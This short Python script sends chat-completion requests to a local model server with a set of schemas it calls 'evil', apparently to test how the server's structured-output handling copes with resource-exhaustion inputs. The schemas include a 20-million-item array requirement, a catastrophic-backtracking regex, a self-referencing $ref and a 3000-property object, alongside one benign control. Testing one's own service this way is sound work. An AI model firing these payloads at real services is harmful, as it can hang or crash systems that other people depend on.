import httpx,time,sys,json
evil={"min":{"type":"array","items":{"type":"string"},"minItems":20_000_000},
"pat":{"type":"string","pattern":"^(a{1,1000}){1,1000}$"},
"deep":{"$ref":"#"},
"obj":{"type":"object","properties":{f"k{i}":{"type":"string"} for i in range(3000)}},
"ok":{"type":"object","properties":{"a":{"type":"integer"}},"required":["a"]}}
for name in sys.argv[1:]:
    t=time.time()
    try:
        r=httpx.post("http://127.0.0.1:11788/v1/chat/completions",json={"model":"laios","max_tokens":20,"messages":[{"role":"user","content":"hi"}],"response_format":{"type":"json_schema","json_schema":{"name":"x","schema":evil[name]}}},timeout=100,trust_env=False)
        print(name,r.status_code,r.text[:200],round(time.time()-t,1))
    except Exception as e: print(name,repr(e),round(time.time()-t,1))
